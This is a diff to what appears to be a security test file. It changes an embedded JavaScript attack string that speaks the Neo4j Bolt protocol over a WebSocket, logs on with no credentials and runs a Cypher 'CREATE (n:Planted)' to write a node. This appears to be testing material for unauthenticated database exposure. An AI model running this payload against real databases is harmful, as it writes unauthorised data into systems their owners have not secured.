@@ -200,14 +200,15 @@ _ATTACK = """async ([http, bolt]) => {
   socket.binaryType = "arraybuffer";
   const said = [];
   await new Promise((resolve) => {
-    socket.onopen = () => {
-      socket.send(pack([0x60, 0x60, 0xb0, 0x17, 0, 0, 4, 5], Array(12).fill(0)));
+    // Bolt 5.1: HELLO, LOGON without credentials, RUN, PULL.
+    socket.onopen = () => socket.send(pack([0x60, 0x60, 0xb0, 0x17, 0, 0, 1, 5], Array(12).fill(0)));
+    socket.onmessage = ({ data }) => {
+      if (said.push(new TextDecoder().decode(data)) > 1) return;
       socket.send(message(0xb1, 0x01, 0xa1, text("user_agent"), text("x/1")));
       socket.send(message(0xb1, 0x6a, 0xa1, text("scheme"), text("none")));
       socket.send(message(0xb3, 0x10, 0xd0, 19, [...new TextEncoder().encode("CREATE (n:Planted) ")], 0xa0, 0xa0));
       socket.send(message(0xb1, 0x3f, 0xa1, text("n"), 0xff));
     };
-    socket.onmessage = ({ data }) => said.push(new TextDecoder().decode(data));
     socket.onclose = socket.onerror = resolve;
     setTimeout(resolve, 3000);
   });
